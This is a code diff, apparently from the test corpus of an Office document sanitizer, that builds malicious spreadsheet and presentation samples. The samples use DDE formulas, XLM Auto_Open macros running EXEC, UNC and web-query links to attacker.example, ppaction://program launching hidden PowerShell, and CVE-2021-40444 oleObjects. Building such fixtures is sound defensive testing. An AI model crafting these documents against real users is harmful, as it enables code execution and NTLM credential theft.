+_formula_sample("xlsx_register", "<f>REGISTER(\"Kernel32\",\"WinExec\",\"JCJ\",\"Run\")</f>",
+                "XLM REGISTER (Outflank 2018)", "dangerous-function")
+_formula_sample("xlsx_rtd", "<f>RTD(\"attacker.progid\",,\"x\")</f>", "RTD real-time data COM server", "dangerous-function")
+_formula_sample("xlsx_hyperlink_function_file", "<f>HYPERLINK(\"file:///C:/Windows/System32/calc.exe\",\"開く\")</f>",
+                "HYPERLINK() to file:", "dangerous-function")
+_formula_sample("xlsx_external_ref_unc", "<f>'\\\\attacker.example\\share\\[book.xlsx]Sheet1'!A1</f>",
+                "§18.17.2.3 external reference in a formula (NTLM leak)", "external-workbook")
+_formula_sample("xlsx_external_index_ref", "<f>[1]Sheet1!A1</f>", "§18.17.2.3 external reference by link index",
+                "external-workbook")
+_formula_sample("xlsx_xlfn_prefix_webservice", "<f>_xlfn.WEBSERVICE(\"http://attacker.example/\")</f>",
+                "[MS-XLSX] _xlfn. future-function prefix", "dangerous-function")
+
+
+@sample("xlsx_dde_defined_name", ".xlsx", "dde-formula", "§18.2.5 definedName whose formula is DDE")
+def xlsx_dde_defined_name(work: Path) -> bytes:
+    names = "<definedNames><definedName name=\"Payload\">cmd|' /C calc'!A0</definedName></definedNames>"
+    return _xlsx('<c r="B4"><f>Payload</f><v>0</v></c>', names).bytes()
+
+
+@sample("xlsx_dde_conditional_format", ".xlsx", "dde-formula", "§18.3.1.10 cfRule expression formula")
+def xlsx_dde_conditional_format(work: Path) -> bytes:
+    rule = (
+        '<conditionalFormatting sqref="A1:B4"><cfRule type="expression" priority="1">'
+        "<formula>cmd|' /C calc'!A0</formula></cfRule></conditionalFormatting>"
+    )
+    return _xlsx(sheet_extra=rule).bytes()
+
+
+@sample("xlsx_dde_data_validation", ".xlsx", "dde-formula", "§18.3.1.32 dataValidation formula1")
+def xlsx_dde_data_validation(work: Path) -> bytes:
+    rule = (
+        '<dataValidations count="1"><dataValidation type="custom" sqref="A2">'
+        "<formula1>cmd|' /C calc'!A0</formula1></dataValidation></dataValidations>"
+    )
+    return _xlsx(sheet_extra=rule).bytes()
+
+
+@sample("xlsx_strict_dde", ".xlsx", "dde-formula", "ISO/IEC 29500 Strict namespaces (purl.oclc.org) with a DDE formula")
+def xlsx_strict_dde(work: Path) -> bytes:
+    package = base.Package(base.xlsx_bytes())
+    for name in list(package.parts):
+        if name.endswith((".xml", ".rels")):
+            text = package.text(name)
+            text = text.replace("http://schemas.openxmlformats.org/spreadsheetml/2006/main",
+                                "http://purl.oclc.org/ooxml/spreadsheetml/main")
+            text = text.replace("http://schemas.openxmlformats.org/officeDocument/2006/relationships",
+                                "http://purl.oclc.org/ooxml/officeDocument/relationships")
+            package.put(name, text)
+    package.put(SHEET, package.text(SHEET).replace("<f>SUM(B2:B3)</f><v></v>", "<f>cmd|' /C calc'!A0</f><v>0</v>"))
+    return package.bytes()
+
+
+@sample("xlsx_xlm_macro_sheet", ".xlsx", "xlm-macro", "[MS-XLSX] macrosheet part + Auto_Open name (Outflank 2018)")
+def xlsx_xlm_macro_sheet(work: Path) -> bytes:
+    return _macro_sheet("application/vnd.ms-excel.macrosheet+xml", MS_RT + "xlMacrosheet", "veryHidden")
+
+
+@sample("xlsx_xlm_intl_macro_sheet", ".xlsx", "xlm-macro", "[MS-XLSX] international macrosheet (xlIntlMacrosheet)")
+def xlsx_xlm_intl_macro_sheet(work: Path) -> bytes:
+    return _macro_sheet("application/vnd.ms-excel.intlmacrosheet+xml", MS_RT + "xlIntlMacrosheet", "hidden")
+
+
+def _macro_sheet(content_type: str, rel_type: str, state: str) -> bytes:
+    package = base.Package(base.xlsx_bytes())
+    package.put(
+        "xl/macrosheets/sheet2.xml",
+        '<xm:macrosheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
+        'xmlns:xm="http://schemas.microsoft.com/office/excel/2006/main"><sheetData><row r="1">'
+        '<c r="A1"><f>EXEC("calc.exe")</f></c></row><row r="2"><c r="A2"><f>HALT()</f></c></row></sheetData>'
+        "</xm:macrosheet>",
+    )
+    package.content_type("/xl/macrosheets/sheet2.xml", content_type)
+    package.add_rel("xl/_rels/workbook.xml.rels", "rIdMacro", rel_type, "macrosheets/sheet2.xml")
+    workbook = package.text("xl/workbook.xml")
+    workbook = workbook.replace(
+        "</sheets>",
+        f'<sheet xmlns:r="{RT[:-1]}" name="Macro1" sheetId="2" state="{state}" r:id="rIdMacro"/></sheets>',
+    )
+    workbook = workbook.replace(
+        "<definedNames/>",
+        '<definedNames><definedName name="_xlnm.Auto_Open" hidden="1">Macro1!$A$1</definedName></definedNames>',
+    )
+    package.put("xl/workbook.xml", workbook)
+    return package.bytes()
+
+
+@sample("xlsx_auto_open_name_exec", ".xlsx", "xlm-macro", "Auto_Open defined name running EXEC directly")
+def xlsx_auto_open_name_exec(work: Path) -> bytes:
+    names = '<definedNames><definedName name="Auto_Open">EXEC("calc.exe")</definedName></definedNames>'
+    return _xlsx(workbook_extra=names).bytes()
+
+
+def _external_link(body: str, target: str) -> bytes:
+    package = base.Package(base.xlsx_bytes())
+    package.put(
+        "xl/externalLinks/externalLink1.xml",
+        '<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
+        f'xmlns:r="{RT[:-1]}">{body}</externalLink>',
+    )
+    package.content_type("/xl/externalLinks/externalLink1.xml",
+                         "application/vnd.openxmlformats-officedocument.spreadsheetml.externalLink+xml")
+    package.add_rel("xl/_rels/workbook.xml.rels", "rIdExt", RT + "externalLink", "externalLinks/externalLink1.xml")
+    if target:
+        package.add_rel("xl/externalLinks/_rels/externalLink1.xml.rels", "rId1", RT + "externalLinkPath", target, True)
+    workbook = package.text("xl/workbook.xml").replace(
+        "<definedNames/>", f'<externalReferences><externalReference xmlns:r="{RT[:-1]}" r:id="rIdExt"/></externalReferences>'
+    )
+    package.put("xl/workbook.xml", workbook)
+    package.put(SHEET, package.text(SHEET).replace("<f>SUM(B2:B3)</f><v></v>", "<f>[1]Sheet1!A1</f><v>0</v>"))
+    return package.bytes()
+
+
+@sample("xlsx_external_workbook_link", ".xlsx", "external-workbook", "§18.14 externalLink part to a UNC workbook")
+def xlsx_external_workbook_link(work: Path) -> bytes:
+    return _external_link(
+        '<externalBook r:id="rId1"><sheetNames><sheetName val="Sheet1"/></sheetNames></externalBook>',
+        "file:///\\\\attacker.example\\share\\book.xlsx",
+    )
+
+
+@sample("xlsx_dde_link_part", ".xlsx", "dde-formula", "§18.14.4 ddeLink: DDE stored as an external link (cmd /c calc)")
+def xlsx_dde_link_part(work: Path) -> bytes:
+    return _external_link(
+        '<ddeLink ddeService="cmd" ddeTopic="/c calc.exe"><ddeItems><ddeItem name="A0" advise="1"/></ddeItems></ddeLink>', ""
+    )
+
+
+@sample("xlsx_web_query_connection", ".xlsx", "external-relationship", "§18.13 connections.xml web query + queryTable")
+def xlsx_web_query_connection(work: Path) -> bytes:
+    package = base.Package(base.xlsx_bytes())
+    package.put(
+        "xl/connections.xml",
+        '<connections xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
+        '<connection id="1" name="q" type="4" refreshOnLoad="1"><webPr url="http://attacker.example/data.iqy"/>'
+        "</connection></connections>",
+    )
+    package.content_type("/xl/connections.xml", "application/vnd.openxmlformats-officedocument.spreadsheetml.connections+xml")
+    package.add_rel("xl/_rels/workbook.xml.rels", "rIdConn", RT + "connections", "connections.xml")
+    return package.bytes()
+
+
+@sample("xlsm_vba", ".xlsm", "macros", "Excel-written macro workbook (xlwings quickstart.xlsm, real VBA)")
+def xlsm_vba(work: Path) -> bytes:
+    return base.xlwings_file("quickstart.xlsm")
+
+
+@sample("xlsx_oleobject_mhtml", ".xlsx", "external-relationship", "CVE-2021-40444 delivered through a worksheet oleObject")
+def xlsx_oleobject_mhtml(work: Path) -> bytes:
+    package = _xlsx(sheet_extra=f'<oleObjects><oleObject xmlns:r="{RT[:-1]}" progId="htmlfile" shapeId="1025" r:id="rIdOle"/></oleObjects>')
+    package.add_rel("xl/worksheets/_rels/sheet1.xml.rels", "rIdOle", RT + "oleObject", html.escape(MHTML), True)
+    return package.bytes()
+
+
+@sample("xlsx_customui_onload", ".xlsx", "customui", "[MS-CUSTOMUI] onLoad callback in a workbook")
+def xlsx_customui_onload(work: Path) -> bytes:
+    return _with_customui(base.Package(base.xlsx_bytes()))
+
+
+# ---------------------------------------------------------------- PowerPoint
+def _pptx_action(action: str, target: str | None, element: str = "hlinkClick") -> bytes:
+    package = base.Package(base.pptx_bytes())
+    rid = ""
+    if target is not None:
+        package.add_rel(SLIDE_RELS, "rIdAct", RT + "hyperlink", html.escape(target), True)
+        rid = ' r:id="rIdAct"'
+    slide = package.text(SLIDE).replace(
+        'name="Title 1"/>', f'name="Title 1"><a:{element}{rid} action="{html.escape(action)}"/></p:cNvPr>', 1
+    )
+    package.put(SLIDE, slide)
+    return package.bytes()
+
+
+@sample("pptx_benign", ".pptx", "control", "python-pptx presentation", Expect.RELEASED)
+def pptx_benign(work: Path) -> bytes:
+    return base.pptx_bytes()
+
+
+@sample("pptx_ppaction_program", ".pptx", "ppaction", "§21.1.2.3.5 hlinkClick action ppaction://program (mouse-click run)")
+def pptx_ppaction_program(work: Path) -> bytes:
+    return _pptx_action("ppaction://program", "file:///C:/Windows/System32/cmd.exe")
+
+
+@sample("pptx_ppaction_program_hover", ".pptx", "ppaction", "§21.1.2.3.6 hlinkHover: runs on mouse-over (PowerPoint mouseover malware, 2017)")
+def pptx_ppaction_program_hover(work: Path) -> bytes:
+    return _pptx_action("ppaction://program", "powershell.exe -nop -w hidden -c calc", "hlinkHover")
+
+
+@sample("pptx_ppaction_macro", ".pptx", "ppaction", "[MS-PPTX] ppaction://macro?name= runs a VBA macro")
+def pptx_ppaction_macro(work: Path) -> bytes:
+    return _pptx_action("ppaction://macro?name=AutoOpen", None)
+
+
+@sample("pptx_ppaction_ole", ".pptx", "ppaction", "[MS-PPTX] ppaction://ole?verb=0 activates an OLE object")
+def pptx_ppaction_ole(work: Path) -> bytes:
+    return _pptx_action("ppaction://ole?verb=0", None)
+
+
+@sample("pptx_hlinkfile_unc", ".pptx", "ppaction", "ppaction://hlinkfile to a UNC executable")
+def pptx_hlinkfile_unc(work: Path) -> bytes:
+    return _pptx_action("ppaction://hlinkfile", "\\\\attacker.example\\share\\x.exe")
+
+
+@sample("pptx_hyperlink_javascript", ".pptx", "external-relationship", "hyperlink relationship with a javascript: target")
+def pptx_hyperlink_javascript(work: Path) -> bytes:
+    return _pptx_action("", "javascript:alert(1)")
+
+
+@sample("pptx_external_video", ".pptx", "external-relationship", "§20.1.3.6 videoFile r:link to a remote file")
+def pptx_external_video(work: Path) -> bytes:
+    package = base.Package(base.pptx_bytes())
+    package.add_rel(SLIDE_RELS, "rIdVid", RT + "video", "\\\\attacker.example\\share\\v.mp4", True)
+    slide = package.text(SLIDE).replace(
+        '<p:nvPr><p:ph type="title"/></p:nvPr>', '<p:nvPr><p:ph type="title"/><a:videoFile r:link="rIdVid"/></p:nvPr>', 1
+    )
+    package.put(SLIDE, slide)
+    return package.bytes()
+
+
+@sample("pptx_oleobject_mhtml", ".pptx", "external-relationship", "CVE-2021-40444 style oleObject in a slide")
+def pptx_oleobject_mhtml(work: Path) -> bytes:
+    package = base.Package(base.pptx_bytes())
+    package.add_rel(SLIDE_RELS, "rIdOle", RT + "oleObject", html.escape(MHTML), True)
+    frame = (
+        '<p:graphicFrame><p:nvGraphicFramePr><p:cNvPr id="9" name="Object"/><p:cNvGraphicFramePr/><p:nvPr/>'
+        '</p:nvGraphicFramePr><p:xfrm><a:off x="0" y="0"/><a:ext cx="1" cy="1"/></p:xfrm><a:graphic>'
+        '<a:graphicData uri="http://schemas.openxmlformats.org/presentationml/2006/ole">'
+        '<p:oleObj r:id="rIdOle" progId="htmlfile"><p:link updateAutomatic="1"/></p:oleObj>'
+        "</a:graphicData></a:graphic></p:graphicFrame>"
+    )
+    package.put(SLIDE, package.text(SLIDE).replace("</p:spTree>", frame + "</p:spTree>", 1))
+    return package.bytes()
+
+
+@sample("pptm_vba", ".pptm", "macros", "[MS-OFFMACRO] vbaProject in a macro-enabled presentation")
+def pptm_vba(work: Path) -> bytes:
+    return _vba_everywhere(
+        base.Package(base.pptx_bytes()), "ppt", "ppt/_rels/presentation.xml.rels",
+        "application/vnd.openxmlformats-officedocument.presentationml.presentation.main+xml",
+        "application/vnd.ms-powerpoint.presentation.macroEnabled.main+xml",
+    )
+
+
+@sample("pptx_customui_onload", ".pptx", "customui", "[MS-CUSTOMUI] onLoad in a presentation")
+def pptx_customui_onload(work: Path) -> bytes:
+    return _with_customui(base.Package(base.pptx_bytes()))
+
+
+@sample("doc_benign_via_libreoffice", ".doc", "control", "Word 97 binary memo (LibreOffice-written): must convert and release",
+        Expect.RELEASED)
+def doc_benign_via_libreoffice(work: Path) -> bytes:
+    source = work / "memo_source.rtf"
+    source.write_bytes(b"{\\rtf1\\ansi\\deff0{\\fonttbl{\\f0 Times;}}\\pard Meeting memo: room 2.\\par}")
+    return base.libreoffice(work, source, "doc:MS Word 97").read_bytes()
